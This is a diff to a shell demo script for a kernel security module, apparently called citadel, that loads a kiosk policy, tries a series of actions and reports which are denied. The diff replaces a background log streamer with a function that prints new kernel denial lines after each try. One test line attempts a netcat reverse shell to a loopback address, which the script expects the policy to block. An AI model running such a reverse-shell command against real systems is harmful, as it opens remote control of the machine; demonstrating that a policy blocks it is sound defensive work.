@@ -8,6 +8,18 @@ cd "$(dirname "$0")" || exit 1
 export PATH="$PWD:$PATH"
 
 say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+seen=0
+# Prints the kernel's denial lines that appeared since the last call, as
+# ops would see them arrive in their log pipeline.
+new_denials() {
+	dmesg | grep 'citadel: deny' >/tmp/denials
+	total=$(wc -l </tmp/denials)
+	if [ "$total" -gt "$seen" ]; then
+		tail -n $((total - seen)) /tmp/denials | sed 's/^/      [kernel] /'
+	fi
+	seen=$total
+}
+
 try() {
 	desc=$1
 	shift
@@ -18,6 +30,7 @@ try() {
 		printf '  %-58s %s\n' "$desc" "DENIED"
 		echo "$desc|denied" >>/tmp/summary
 	fi
+	new_denials
 }
 
 say "Boot: load citadel.ko, attach the BPF LSM hooks, load the kiosk policy"
@@ -27,10 +40,7 @@ citadelctl check kiosk.conf && citadelctl compile kiosk.conf -o /tmp/kiosk.cpol 
 citadelctl load /tmp/kiosk.cpol || exit 1
 citadelctl status
 
-# Stream denials live, as ops would see them in their log pipeline.
 dmesg -n 1
-( dmesg -w | grep --line-buffered 'citadel: deny' | sed -u 's/^/  [kernel] /' ) &
-streamer=$!
 
 say "Kiosk services"
 mkdir -p /tmp/www && echo "Welcome to the city kiosk" >/tmp/www/index.html
@@ -46,8 +56,6 @@ try "reverse shell to 127.0.0.99:4444" sh -c 'nc -w 2 127.0.0.99 4444 -e /bin/sh
 try "DNS lookup through another resolver 127.0.0.8" nslookup citadel.example 127.0.0.8
 try "telemetry port on the wrong host 127.0.0.3:9000" nc -w 2 127.0.0.3 9000
 try "IPv6 to [::1]:22" nc -w 2 ::1 22
-sleep 1
-kill "$streamer" 2>/dev/null
 
 say "Status after the scenario"
 citadelctl status
